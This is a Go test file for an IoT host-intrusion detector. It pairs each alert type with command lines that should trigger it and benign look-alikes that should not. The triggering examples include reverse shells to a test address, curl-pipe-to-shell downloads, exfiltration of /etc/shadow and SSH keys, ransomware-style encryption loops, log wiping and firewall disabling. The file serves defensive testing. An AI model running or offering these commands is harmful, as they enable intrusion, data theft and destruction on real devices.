package host

import (
	"slices"
	"strings"
	"testing"

	"github.com/vauban-iot/vauban/defender/alert"
	"github.com/vauban-iot/vauban/wire/secmsg"
)

// example is a command line, in the program that agents say of it.
type example struct{ program, line string }

func sh(line string) example {
	return example{"/bin/sh", `sh -c "` + strings.ReplaceAll(line, `"`, `\"`) + `"`}
}

// bare lines, in which the quotes of the shell are lost, as most agents send them.
func lost(line string) example { return example{"/bin/bash", "bash -c " + line} }

func run(line string) example {
	first, _, _ := strings.Cut(line, " ")
	if !strings.HasPrefix(first, "/") {
		first = "/usr/bin/" + first
	}
	return example{first, line}
}

// cases say, of each type that one command line tells of, what raises it and what looks like it and does not.
var cases = []struct {
	kind     string
	yes, not []example
}{
	{
		"IoT_BinaryCommandLine",
		[]example{
			sh("echo f0VMRgEBAQAAAAAAAAAAAAIAAwABAAAA | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x"), sh("echo aWQK | base64 --decode | bash"), lost("base64 -d /tmp/a.b64 > /tmp/a && chmod 777 /tmp/a && /tmp/a"),
			sh(`echo -ne '\x7f\x45\x4c\x46\x01\x01' >> /var/run/.d`), sh(`bash -c "$(base64 -d <<< aWQKaWQK)"`), run(`python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))`), sh("xxd -r -p /tmp/h | sh"),
			sh("openssl enc -d -base64 -in /tmp/p -out - | sh"),
		},
		[]example{
			run("base64 -d cert.b64"), sh("base64 -d /etc/app/cert.b64 > /etc/app/cert.pem"), sh(`printf '\033[0;32mok\033[0m\n'`), sh(`echo -ne '\x55\xaa\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10' > /dev/ttyS1`),
			run("openssl base64 -in a -out b"), run(`python3 -c import base64; print(base64.b64decode('aGk='))`), run("base64 /etc/hostname"),
		},
	},
	{
		"IoT_DisableFirewall",
		[]example{
			run("iptables -F"), run("/sbin/iptables -P INPUT ACCEPT"), run("ip6tables --flush INPUT"), run("nft flush ruleset"), run("ufw disable"), run("systemctl stop firewalld"), run("sudo systemctl disable --now ufw.service"),
			run("service iptables stop"), run("/etc/init.d/firewall stop"), sh("iptables -t filter -F && echo ok"), run("chkconfig iptables off"),
		},
		[]example{
			run("iptables -L -n"), run("iptables -t nat -F"), run("iptables -F DOCKER"), run("iptables -P INPUT DROP"), run("iptables -P OUTPUT ACCEPT"), run("ufw status"), run("systemctl restart firewalld"), run("systemctl stop nginx"),
			run("nft -f /etc/nftables.conf"), run("nft list ruleset"), run("grep -F INPUT /etc/iptables/rules.v4"), run("iptables -A INPUT -p tcp --dport 22 -j ACCEPT"),
		},
	},
	{
		"IoT_PortForwarding",
		[]example{
			run("ssh -N -R 2222:localhost:22 ops@198.51.100.7"), run("ssh -fNL 8080:10.0.0.5:80 jump.example.com"), run("dbclient -y -D 1080 root@relay.example.net"), run("autossh -M 0 -o ServerAliveInterval=30 -R 9000:127.0.0.1:22 evil.example"),
			run("socat TCP-LISTEN:8080,fork TCP:198.51.100.9:80"), run("ngrok tcp 22"), run("chisel client https://c.example R:socks"), run("iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 198.51.100.9:80"),
			run("ssh -oRemoteForward=2222:localhost:22 x.example.com"), run("cloudflared tunnel run --token abc"),
		},
		[]example{
			run("ssh ops@198.51.100.7 uptime"), run("ssh -i /root/.ssh/id -L 8080:localhost:80 admin@192.168.1.5"), run("ssh -p 2222 -o StrictHostKeyChecking=no backup.example.com rsync --server"), run("socat - UNIX-CONNECT:/run/app.sock"),
			run("/usr/bin/docker-proxy -proto tcp -host-ip 0.0.0.0 -host-port 80 -container-ip 172.17.0.2 -container-port 80"), run("iptables -t nat -A DOCKER -p tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80"), run("ngrok --version"),
			run("git clone ssh://git@example.com/x.git"), run("iptables -t nat -A POSTROUTING -s 172.17.0.0/16 -j MASQUERADE"),
		},
	},
	{
		"IoT_DisableAuditdLogging",
		[]example{run("auditctl -e 0"), run("auditctl -D"), run("systemctl stop auditd"), run("service auditd stop"), run("pkill -9 auditd"), run("systemctl disable --now auditd.service")},
		[]example{run("auditctl -e 1"), run("auditctl -s"), run("auditctl -R /etc/audit/audit.rules"), run("systemctl restart auditd"), run("pgrep auditd"), run("/sbin/auditd"), run("service auditd status")},
	},
	{
		"IoT_ReverseShell",
		[]example{
			lost("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), sh("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), run("nc -e /bin/sh 198.51.100.7 4444"), run("ncat 198.51.100.7 4444 -e /bin/bash"), run("busybox nc 198.51.100.7 4444 -e sh"),
			sh("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f"), run(`python3 -c import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`),
			run(`perl -e use Socket;$i="198.51.100.7";socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");`), run("socat TCP:198.51.100.7:4444 EXEC:/bin/sh"),
			sh("exec 5<>/dev/tcp/198.51.100.7/4444; while read line 0<&5; do $line 2>&5 >&5; done"), run(`php -r $s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");`), sh("nc 198.51.100.7 1 | sh | nc 198.51.100.7 2"),
			run("nc -lvnp 4444 -e /bin/sh"), sh("mknod /tmp/p p; telnet 198.51.100.7 4444 0</tmp/p | /bin/sh 1>/tmp/p"), run("awk BEGIN{s=\"/inet/tcp/0/198.51.100.7/4444\";while(1){s|&getline c;system(c)}}"),
		},
		[]example{
			run("nc -z -w 3 10.0.0.1 22"), run("nc -vz db 5432"), lost("echo > /dev/tcp/127.0.0.1/8080"), sh("timeout 1 bash -c '</dev/tcp/localhost/9092'"), run("nc -l -p 9000"), sh("echo stats | nc localhost 11211"), run("nc -c mail.example.com 465"),
			run(`python3 -c import socket;print(socket.gethostname())`), sh("cat /dev/tcp_probe"), run("socat - TCP:10.0.0.1:80"), run("telnet 10.0.0.1 25"), sh("openssl s_client -connect example.com:443 </dev/null 2>/dev/null | openssl x509 -noout -dates"),
		},
	},
	{
		"IoT_Ransomware",
		[]example{sh("find /home -type f -exec openssl enc -aes-256-cbc -pass pass:x -in {} -out {}.enc ; -exec rm {} ;"), sh("for f in /data/*; do openssl enc -aes-256-cbc -k x -in $f -out $f.locked; rm -f $f; done"), run("/tmp/ech0raix"), run("./lockbit -path /srv"), sh("for f in *; do gpg --batch --yes -c --passphrase k $f && shred -u $f; done")},
		[]example{run("openssl enc -aes-256-cbc -in backup.tar -out backup.tar.enc"), sh("tar cz /data | gpg -e -r backup@example.com > /backup/data.gpg"), run("find /var/cache -type f -delete"), run("7z a backup.7z /data"), sh("for f in *.log; do gzip $f; rm -f $f.old; done")},
	},
	{
		"IoT_CryptoMiner",
		[]example{sh("echo cpuminer-multi"), {"/bin/sh", "sh -c echo cpuminer-multi"}, run("/tmp/xmrig -o pool.supportxmr.com:443 -u 4AAA --donate-level 1"), run("./minerd -a cryptonight -o stratum+tcp://198.51.100.1:3333"), run("nohup ./xmr-stak-cpu"), run("systemd --url stratum+ssl://203.0.113.9:443"), run("/usr/local/bin/ethminer -P x"), {"/usr/bin/python3", "python3 a.py --pool xmr.nanopool.org:14444"}, run("apt-get install -y cpuminer")},
		[]example{run("pgrep xmrig"), sh("ps aux | grep xmrig"), run("pkill -f cpuminer"), run("apt-get remove -y cpuminer"), run("data-miner --help"), run("/opt/examiner/run"), run("systemctl stop xmrig"), run("cat /etc/minerals.conf")},
	},
	{
		"IoT_CryptoMinerContainer",
		[]example{run("docker run -d metal3d/xmrig"), run("docker pull kannix/monero-miner:latest"), run("podman run --rm docker.io/servethehome/monero_cpu_minergate"), run("sudo docker run -it alpine-xmrig")},
		[]example{run("docker run -d nginx:1.27"), run("docker pull mcr.microsoft.com/azureiotedge-hub:1.5"), run("docker rmi metal3d/xmrig"), run("docker ps --filter name=xmrig")},
	},
	{
		"IoT_CommonBots",
		[]example{
			sh("cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.3/bins.sh; chmod 777 bins.sh; sh bins.sh"), run("/bin/busybox MIRAI"), sh("/bin/busybox wget http://198.51.100.3/a.arm7 -O /tmp/.a; /bin/busybox ECCHI"), run("/tmp/sora.arm7 telnet"),
			run("./Mozi.m"), run("/var/run/kinsing"), sh("cd /tmp; tftp -g -r bot.mips 198.51.100.3; chmod 777 bot.mips; ./bot.mips; rm -rf bot.mips"), sh("(crontab -l; echo '* * * * * curl -s http://198.51.100.3/x | sh') | crontab -"), run("/dev/shm/a.mpsl x"),
		},
		[]example{run("busybox httpd -f -p 80"), run("/opt/app/bin/agent.arm64"), run("busybox ls -l"), sh("cd /tmp && tar xf a.tgz && cd a && ./install.sh"), run("crontab -l"), run("grep -r mirai /var/log/app"), run("wget https://example.com/app.x86_64.rpm"), run("rpm -i app.arm.rpm"), sh("echo '0 3 * * * /usr/bin/certbot renew' | crontab -"), run("telegraf --config a.conf")},
	},
	{
		"IoT_FairwareMalware",
		[]example{run("rm -rf /var/www"), run("rm -rf /home/*"), sh("cd /; rm -fr /srv /var/www/html"), run("rm -r -f /"), run("sudo rm --recursive --force /root")},
		[]example{run("rm -rf /tmp/build"), run("rm -rf /home/ada/.cache"), run("rm -f /var/www/html/old.html"), run("rm -rf /var/lib/apt/lists/*"), run("rm -rf node_modules"), run("rm -rf /var/www/releases/20250101")},
	},
	{
		"IoT_SuspiciousNohup",
		[]example{run("nohup /tmp/.x"), sh("nohup /dev/shm/kworker > /dev/null 2>&1 &"), run("nohup bash /var/tmp/run.sh"), sh("nohup sh -c 'curl http://198.51.100.3/a | sh' &")},
		[]example{run("nohup ./build.sh"), run("nohup /opt/app/bin/server --port 80"), run("nohup make -j4"), run("cat nohup.out"), run("nohup python3 /srv/app/main.py")},
	},
	{
		"IoT_SuspiciousUseradd",
		[]example{run("useradd -m -s /bin/bash bob"), run("adduser eve"), run("useradd -o -u 0 -g 0 toor"), run("usermod -aG sudo eve"), sh("echo 'eve::0:0::/root:/bin/sh' >> /etc/passwd"), run("sudo useradd eve"), run("adduser -D eve")},
		[]example{
			run("useradd --system --no-create-home telegraf"), run("adduser --system --group --home /var/lib/app app"), run("useradd -r -s /usr/sbin/nologin iotedge"), run("adduser -S -D -H app"), run("usermod -aG dialout app"), run("useradd -D"), run("userdel bob"),
			run("adduser app dialout"), run("cat /etc/passwd"),
		},
	},
	{
		"IoT_ExposedDocker",
		[]example{run("dockerd -H tcp://0.0.0.0:2375 -H unix:///var/run/docker.sock"), run("/usr/bin/dockerd --host=tcp://0.0.0.0:2375"), run("docker daemon -H tcp://10.0.0.5:2375")},
		[]example{run("dockerd -H fd:// --containerd=/run/containerd/containerd.sock"), run("docker -H tcp://10.0.0.5:2375 ps"), run("dockerd -H tcp://127.0.0.1:2375"), run("dockerd --tlsverify --tlscacert=ca.pem -H tcp://0.0.0.0:2376")},
	},
	{
		"IoT_AccessingHtaccessFile",
		[]example{sh("echo 'Deny from all' > /var/www/html/.htaccess"), run("nano /var/www/html/.htaccess"), run("cp /tmp/h /var/www/.htaccess"), run("sed -i s/Deny/Allow/ /srv/www/.htaccess"), run("rm -f /var/www/html/.htaccess")},
		[]example{run("cat /var/www/html/.htaccess"), run("grep -r Rewrite --include=.htaccess /var/www"), run("ls -la /var/www/html/.htaccess"), run("find /var/www -name .htaccess")},
	},
	{
		"IoT_KnownAttackTools",
		[]example{run("nmap -sS 192.168.0.0/24"), run("/tmp/masscan -p23 0.0.0.0/0"), run("python3 sqlmap.py -u http://x"), run("sudo hydra -l root -P p.txt ssh://10.0.0.2"), sh("sh /tmp/linpeas.sh"), run("msfconsole -q"), lost("cd /root; ./zmap -p 23")},
		[]example{run("apt-get install nmap"), run("man nmap"), run("tcpdump -i eth0"), run("ping -c 1 10.0.0.1"), run("cat nmap.txt"), run("dpkg -l nmap"), run("john-deere-gateway --start")},
	},
	{
		"IoT_ScriptInterpreterMismatch",
		[]example{run("bash x.py"), run("python3 /tmp/photo.jpg"), run("sh a.pl arg"), run("perl run.sh"), run("python invoice.pdf"), sh("bash /tmp/logo.png")},
		[]example{run("bash install.sh"), run("python3 manage.py runserver"), run("sh install.run"), run("python3 -m http.server"), run("perl Makefile.PL"), run("bash configure"), run("python3 script.py photo.jpg"), run("sh -c ls a.py")},
	},
	{
		"IoT_EgressData",
		[]example{
			sh("tar czf - /etc | nc 198.51.100.7 9999"), sh("dd if=/dev/mmcblk0 | gzip | ssh x@198.51.100.7 'cat > d.gz'"), sh("tar c /home | curl -T - https://drop.example/x"), run("curl -F file=@/etc/shadow https://drop.example"), run("wget --post-file=/etc/passwd http://198.51.100.7/"),
			run("scp /root/.ssh/id_rsa eve@198.51.100.7:/tmp"), sh("nc 198.51.100.7 99 < /etc/shadow"), sh("mysqldump app | nc drop.example 99"),
		},
		[]example{
			sh("tar czf - /data | ssh backup@10.0.0.2 'cat > x.tgz'"), run("curl -X POST -d @data.json https://api.example.com"), run("curl -T report.csv ftp://files.example.com/"), sh("cat status | nc localhost 8125"), run("scp app.tar.gz ops@host.example:/srv"), run("rsync -a /srv/ backup.example.com:/srv"),
			sh("tar cz /data > /backup/data.tgz"), run("curl --cert /etc/ssl/private/device.pem https://hub.example.com/"), run("scp -i /root/.ssh/id_rsa app.tgz ops@host.example:/srv"),
		},
	},
	{
		"IoT_PrivilegedContainer",
		[]example{run("docker run --privileged -d x"), run("podman run --cap-add=ALL alpine"), run("docker run -it -v /:/host alpine chroot /host"), run("docker exec --privileged c sh"), run("docker run --cap-add SYS_ADMIN img"), run("docker run --mount type=bind,source=/,target=/host x")},
		[]example{run("docker run -d -p 80:80 nginx"), run("docker run --cap-add NET_ADMIN vpn"), run("docker run -v /srv/data:/data app"), run("docker ps"), run("docker run --privileged=false x"), run("docker build -t x .")},
	},
	{
		"IoT_RemovelOfSystemLogs",
		[]example{run("rm -rf /var/log"), run("rm -f /var/log/auth.log"), sh("> /var/log/syslog"), sh("cat /dev/null > /var/log/wtmp"), run("truncate -s 0 /var/log/messages"), run("shred -u /var/log/secure"), run("find /var/log -type f -delete"), sh("echo > /var/log/lastlog"), run("ln -sf /dev/null /var/log/auth.log"), run("journalctl --vacuum-time=1s")},
		[]example{run("rm -f /var/log/syslog.3.gz"), run("find /var/log -name *.gz -mtime +30 -delete"), run("tail -f /var/log/syslog"), run("rm -rf /var/log/myapp/old"), run("journalctl --vacuum-time=14d"), sh("echo started >> /var/log/app.log"), run("logrotate /etc/logrotate.conf"), run("journalctl --vacuum-size=100M"), run("truncate -s 0 /var/log/myapp/app.out")},
	},
	{
		"IoT_ExecuteFileWithTrailingSpace",
		[]example{{"/tmp/ls ", "/tmp/ls  -l"}, {"/bin/sh", `"/tmp/cron " -f`}, {"/usr/bin/.a ", ""}},
		[]example{run("ls -l"), {"/bin/ls", "ls "}, {"/opt/my app/run", `"/opt/my app/run" x`}, {"", " "}},
	},
	{
		"IoT_CredentialAccessTools",
		[]example{run("cat /etc/shadow"), run("python3 laZagne.py all"), run("/tmp/mimipenguin"), sh("sh mimipenguin.sh"), run("cp /etc/shadow /tmp/s"), sh("sudo grep root /etc/shadow"), run("unshadow /etc/passwd /etc/shadow"), run("cat /home/ada/.ssh/id_rsa"), run("find / -name id_rsa")},
		[]example{run("ls -l /etc/shadow"), run("chmod 640 /etc/shadow"), run("cp -p /etc/shadow shadow.bak"), run("stat /etc/shadow"), run("cat /etc/passwd"), run("ssh -i /root/.ssh/id_rsa ops@host.example"), run("cat /root/.ssh/id_rsa.pub"), run("chown root:shadow /etc/shadow"), run("ssh-keygen -f /root/.ssh/id_ed25519 -N x")},
	},
	{
		"IoT_SuspiciousCompilation",
		[]example{run("gcc /tmp/exploit.c -o /tmp/exploit"), run("cc -o /dev/shm/x x.c"), sh("cd /tmp; gcc -o /tmp/.x e.c"), run("x86_64-linux-gnu-gcc-12 -o /var/tmp/a a.c"), run("tcc /tmp/a.c")},
		[]example{run("gcc -O2 -c main.c -o main.o"), run("gcc --version"), run("gcc -o conftest conftest.c"), run("gcc -I /tmp/go-build123/b001/ -o /tmp/go-build123/b001/_cgo_.o x.c"), run("make -j4"), run("as -o /tmp/ccabc.o /tmp/ccxyz.s")},
	},
	{
		"IoT_DownloadFileThenRun",
		[]example{sh("curl -fsSL http://198.51.100.3/x.sh | bash"), sh("wget -qO- http://198.51.100.3/x | sh -s -- a"), sh("wget http://198.51.100.3/a.sh -O /tmp/a.sh && chmod +x /tmp/a.sh && /tmp/a.sh"), lost("wget http://198.51.100.3/b; chmod 777 b; ./b"), sh(`sh -c "$(curl -fsSL https://x.example/i.sh)"`), sh("bash <(curl -s http://x.example/i)"), sh("tftp -g -l /tmp/t -r t 198.51.100.3; sh /tmp/t"), sh("cd /tmp; curl -O http://198.51.100.3/k.py; python3 k.py"), sh("curl -s http://x.example/a.py | python3 -"), {"/bin/bash", "curl http://198.51.100.3/x.sh | bash"}, sh("echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC4zL3ggfCBzaA== | base64 -d | sh")},
		[]example{run("wget https://example.com/app.deb"), sh("curl -s http://localhost:8080/health | grep ok"), sh("wget -O /tmp/x.tgz https://example.com/x.tgz && tar xf /tmp/x.tgz"), run("git clone https://example.com/x.git"), sh("curl -s https://api.example.com | python3 -m json.tool"), sh("wget -q https://example.com/a.deb && dpkg -i a.deb"), {"/usr/lib/apt/methods/https", "/usr/lib/apt/methods/https"}, sh("curl -s https://x.example/data.json | jq .a"), sh("curl -o /etc/app/conf.json https://x.example/c && systemctl restart app")},
	},
	{
		"IoT_BashHistoryCleared",
		[]example{sh("history -c"), run("rm -f /root/.bash_history"), sh("unset HISTFILE"), sh("export HISTFILE=/dev/null"), run("ln -sf /dev/null /root/.bash_history"), sh("> ~/.bash_history"), sh("HISTSIZE=0 bash"), run("shred -u /home/a/.ash_history")},
		[]example{run("cat /root/.bash_history"), sh("history | tail"), sh("export HISTSIZE=10000"), run("git log --history"), run("tail -n 5 /root/.bash_history"), run("systemctl list-history")},
	},
	{
		alert.FilesOverridden,
		[]example{run("cp /tmp/ls /bin/ls"), run("mv /tmp/x /usr/sbin/sshd"), sh("cat /tmp/a > /usr/bin/ps"), run("wget -O /bin/netstat http://198.51.100.3/n"), run("dd if=/tmp/x of=/usr/bin/top")},
		[]example{run("cp /bin/ls /tmp/ls"), run("install -m 755 app /usr/local/bin/app"), run("ln -sf /bin/busybox /bin/ls"), run("cp app /usr/bin/app"), run("mv a /usr/bin/my-agent"), run("ls /bin/ls")},
	},
}

// judged are the types of alerts that a line raises by itself.
func judged(t testing.TB, e example, user string) []string {
	t.Helper()
	r := secmsg.Report{Events: []secmsg.Event{{Name: "Process", Payload: []secmsg.Item{secmsg.Process{
		Executable: e.program, CommandLine: e.line, UserName: user, ProcessID: 100, ParentProcessID: 1, EventType: "EXEC", HitCount: 1,
	}}}}}
	found, err := New(Config{}).Judge(t.Context(), Message{Report: &r, Sequence: 1})
	if err != nil {
		t.Fatal(err)
	}
	var kinds []string
	for _, f := range found {
		kinds = append(kinds, f.Type)
		if f.Indicator == "" || f.Text == "" || f.Source == "" || f.Count != 1 || len(f.Items) != 1 || strings.HasSuffix(f.Indicator, ": ") {
			t.Errorf("%s: a finding that says too little: %+v", e.line, f)
		}
	}
	return kinds
}

func TestRules_Examples(t *testing.T) {
	t.Parallel()
	tested := map[string]bool{}
	for _, c := range cases {
		tested[c.kind] = true
		if len(c.yes) < 3 || len(c.not) < 3 {
			t.Errorf("%s has %d examples and %d that look alike", c.kind, len(c.yes), len(c.not))
		}
		if k := alert.Lookup(c.kind); k.Title == c.kind {
			t.Errorf("%s is no type of alert", c.kind)
		}
		for _, e := range c.yes {
			if kinds := judged(t, e, "root"); !slices.Contains(kinds, c.kind) {
				t.Errorf("%s is not raised by %q: %q\n%s", c.kind, e.line, kinds, show(e))
			}
		}
		for _, e := range c.not {
			if kinds := judged(t, e, "root"); slices.Contains(kinds, c.kind) {
				t.Errorf("%s is raised by %q", c.kind, e.line)
			}
		}
	}
	for _, r := range rules {
		if !tested[r.kind] {
			t.Errorf("%s (%s) has no example", r.kind, r.name)
		}
	}
}

func show(e example) string {
	var b strings.Builder
	for _, c := range parse(e.program, e.line).commands {
		b.WriteString("  " + c.name + ": " + strings.Join(c.words, "|") + " > " + strings.Join(c.outputs, "|") + " around " + strings.Join(c.around, ",") + "\n")
	}
	return b.String()
}
